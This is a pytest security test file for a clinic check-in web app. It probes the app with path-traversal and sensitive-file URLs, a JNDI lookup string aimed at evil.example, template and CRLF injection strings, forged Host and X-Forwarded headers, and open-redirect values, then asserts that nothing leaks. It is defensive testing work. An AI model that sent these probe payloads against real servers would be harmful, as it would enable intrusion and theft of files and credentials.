"""Addresses that somebody tries, and names that somebody forges: no file, no console, and no link to elsewhere.

TRUST A19 and A20, as bytes to the real server on either engine. Foreign Host headers are in tests/test_app.py too.
"""

import re
import socket
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.browser.server import ROOT, Clinic
from tests.faces import Opens, Practice

PATHS = (
    "/.git/config", "/.git/HEAD", "/.gitignore", "/.env", "/.venv/pyvenv.cfg", "/.htaccess",
    "/.well-known/security.txt", "/.DS_Store", "/.svn/entries", "/.ssh/id_rsa", "/.bash_history", "/app.py",
    "/serve.py", "/settings.py", "/clinic/store.py", "/requirements.txt", "/pyproject.toml", "/Makefile",
    "/README.md", "/templates/base.html", "/templates/words/en.po", "/data", "/data/", "/data/kindline.db",
    "/data/kindline.db-wal", "/data/kindline.key", "/data/kindline.lock", "/kindline.db", "/static/kindline.db",
    "/static/../data/kindline.db", "/backup.zip", "/backup.sql", "/dump.sql", "/static", "/static/", "/static/fonts/",
    "/static/voice/", "/static/vendor/", "/static//etc/passwd", "/static/../app.py", "/static/../../etc/passwd",
    "/static/..%2fapp.py", "/static/%2e%2e/app.py", "/static/%2e%2e%2fapp.py", "/static/%252e%252e%252fapp.py",
    "/static/..%5capp.py", "/static/..\\app.py", "/static/....//app.py", "/static/..;/app.py",
    "/static/fonts/../../app.py", "/static/%00", "/static/live.js%00.png",
    "/static/live.py", "/static/file:///etc/passwd", "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd", "/%2e%2e/%2e%2e/etc/passwd", "//etc/passwd", "/kiosk/../app.py",
    "/kiosk/..%2f..%2fapp.py", "/t/..%2f..%2fapp.py/x", "/c/..%2f..%2fetc%2fpasswd", "/staff/room/..%2f..%2fapp.py",
    "/staff/visit/%2e%2e", "/staff/invitation/%00", "/staff/appointments/list/..%2f..", "/console", "/debug",
    "/debugger", "/__debugger__", "/_debugbar", "/debug/default/view", "/actuator/env", "/metrics/", "/server-status",
    "/phpinfo.php", "/wp-login.php", "/wp-admin/", "/admin", "/admin/", "/administrator", "/phpmyadmin/",
    "/cgi-bin/test", "/api", "/api/v1/users", "/swagger.json", "/openapi.json", "/graphql", "/robots.txt.bak",
    "/socket.io.js", "/config.json", "/config.yml", "/docker-compose.yml", "/Dockerfile", "/id_rsa", "/etc/passwd",
    "/proc/self/environ", "/proc/self/cmdline", "/%s%s%s%n", "/${jndi:ldap://evil.example/a}", "/{{7*7}}",
    "/%0d%0aSet-Cookie:%20a=b", "/" + "a" * 3000,
)  # fmt: skip
"""What robots and people try; none of it is there."""

DEBUGGER = "?__debugger__=yes&cmd=resource&f=debugger.js"

LEAKS = re.compile(rb"Traceback|[Ww]erkzeug|[Ee]ventlet/|Python/|root:|/site-packages/|SECRET|sqlite|\.py\b")


@pytest.fixture(scope="module", params=["threading", "eventlet"])
def served(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Clinic]:
    """A clinic on a server of this engine, whose links carry a name of its own."""
    folder = tmp_path_factory.mktemp(f"addresses-{request.param}")
    clinic = Clinic(folder, ASYNC=request.param, URL="https://127.9.9.9").start()
    yield clinic
    clinic.stop()


def raw(clinic: Clinic, *lines: str, body: bytes = b"") -> tuple[int, bytes]:
    """The status and everything that is answered to exactly these lines."""
    with socket.create_connection(("127.0.0.1", clinic.port), timeout=10) as connection:
        connection.sendall("\r\n".join([*lines, "Connection: close", "", ""]).encode() + body)
        said = b""
        while piece := connection.recv(65536):
            said += piece
    return int(said.split(b" ", 2)[1]), said


def asked(clinic: Clinic, path: str, *more: str) -> tuple[int, bytes]:
    """What a browser of ours is answered there."""
    return raw(clinic, f"GET {path} HTTP/1.1", f"Host: 127.0.0.1:{clinic.port}", *more)


def test_no_file_console_or_hidden_page_has_an_address(served: Clinic) -> None:
    """TRUST A19."""
    own = [str(ROOT).encode(), str(served.folder).encode(), str(Path.home()).encode() + b"/"]
    for path in PATHS:
        status, said = asked(served, path)
        assert status == 404, path
        assert not LEAKS.search(said), (path, LEAKS.search(said))
        assert not any(place in said for place in own), path
        assert b"set-cookie" not in said.partition(b"\r\n\r\n")[0].lower(), path
    # The one page for programs on this computer alone is none for who comes by way of another server.
    status, said = asked(served, "/metrics", "X-Forwarded-For: 203.0.113.9")
    assert (status, LEAKS.search(said), b"kindline_" in said) == (404, None, False)
    for path in ("/", "/kiosk", "/nothing"):
        status, said = asked(served, path + DEBUGGER)
        assert b"__debugger__" not in said
        assert status in (200, 404)


def test_what_is_served_as_a_file_is_nothing_but_our_files(served: Clinic) -> None:
    status, said = asked(served, "/static/live.js")
    assert (status, b"use strict" in said) == (200, True)


def test_no_odd_request_line_reaches_a_page_or_a_fault(served: Clinic) -> None:
    port = served.port
    for lines in (
        ("GET http://evil.example/kiosk HTTP/1.1", f"Host: 127.0.0.1:{port}"),
        ("GET /kiosk HTTP/1.1", "Host: evil.example"),
        ("GET /static/%c0%ae%c0%ae/app.py HTTP/1.1", f"Host: 127.0.0.1:{port}"),
        ("GET /kiosk HTTP/1.1", "Host: evil.example", f"Host: 127.0.0.1:{port}"),
        ("GET /kiosk HTTP/1.1", f"Host: evil.example@127.0.0.1:{port}"),
        ("GET /kiosk HTTP/1.1", f"Host: 127.0.0.1:{port}/evil.example"),
        ("GET /kiosk HTTP/1.1",),
        ("GET /kiosk HTTP/1.1", "Host: 127.0.0.1, evil.example"),
        ("GET /kiosk HTTP/1.1", f"Host: 127.0.0.1:{port}#.evil.example"),
        ("GET /kiosk HTTP/1.1", "Host: "),
        ("GET /kiosk HTTP/1.1", f"Host: 127.0.0.1:{port}", "Host: evil.example"),
    ):
        status, said = raw(served, *lines)
        assert status in (400, 404), lines
        assert b"evil.example" not in said, lines


FORGED = {
    "X-Forwarded-Host": "evil.example", "X-Forwarded-Server": "evil.example", "X-Forwarded-Proto": "https",
    "X-Forwarded-Scheme": "https", "X-Forwarded-Port": "443", "X-Forwarded-Prefix": "/evil",
    "X-Forwarded-For": "10.0.0.9", "X-Real-IP": "10.0.0.9", "X-Client-IP": "10.0.0.9", "X-Host": "evil.example",
    "X-HTTP-Host-Override": "evil.example", "Forwarded": "for=10.0.0.9;host=evil.example;proto=https",
    "X-Original-URL": "/staff", "X-Rewrite-URL": "/staff", "X-Script-Name": "/evil", "X-Forwarded-Uri": "/staff",
    "Base-Url": "http://evil.example", "Front-End-Https": "on", "X-HTTP-Method-Override": "POST",
    "X-Method-Override": "DELETE", "X-Wap-Profile": "http://evil.example/x.xml",
}  # fmt: skip
"""Lines with which who asks may claim to be, or to have been sent by, somebody else (TRUST A20)."""


def test_what_a_request_says_of_servers_before_us_changes_no_answer(practice: Practice) -> None:
    ana = practice.arrives()
    path = practice.phone(ana)
    for page in (
        "/",
        "/kiosk",
        "/display",
        "/staff",
        path,
        f"{path}/share",
        f"/staff/visit/{ana['visit']}",
        "/nothing",
    ):
        plain = practice.client.get(page)
        for name, value in FORGED.items():
            forged = practice.client.get(page, headers={name: value})
            assert forged.status_code == plain.status_code, (page, name)
            assert forged.text == plain.text, (page, name)
            assert list(forged.headers) == list(plain.headers), (page, name)


def test_every_link_and_code_carries_the_set_address_whatever_is_asked(opens: Opens) -> None:
    practice = opens(url="https://127.9.9.9")
    headers = {**FORGED, "Host": "127.0.0.1:8000"}
    fields = {"service": "doctor", "request": "1"}
    ana = practice.client.post("/kiosk/check-in", json=fields, headers=headers).json or {}
    assert ana["url"].startswith("https://127.9.9.9/t/")
    path = ana["url"].removeprefix("https://127.9.9.9")
    for page in ("/", f"{path}/share", f"/staff/visit/{ana['visit']}"):
        said = practice.client.get(page, headers=headers).text
        assert "https://127.9.9.9" in said, page
        assert not re.search(r"evil\.example|127\.0\.0\.1", said), page
    ticket = practice.client.post("/kiosk/check-in", data={**fields, "request": "2"}, headers=headers).text
    assert "127.9.9.9/t" in ticket
    assert not re.search(r"evil\.example|127\.0\.0\.1", ticket)


def test_no_redirect_leads_to_where_somebody_else_says(opens: Opens) -> None:
    practice = opens(url="https://127.9.9.9")
    ana = practice.arrives()
    path = practice.phone(ana)
    for where, fields in {
        f"{path}/coming": {"lang": "//evil.example"}, f"{path}/leave": {"next": "//evil.example"},
        "/staff/check-in": {"service": "doctor", "request": "r", "from": "//evil.example"},
        "/staff/we-did": {"line-1": "x", "from": "\\\\evil.example"},
    }.items():  # fmt: skip
        answer = practice.client.post(where, data=fields, headers={**FORGED, "Host": "127.0.0.1:8000"})
        assert answer.status_code == 303, where
        assert re.match(r"/[a-zA-Z]", answer.headers["Location"]), where
        assert "evil" not in answer.headers["Location"], where
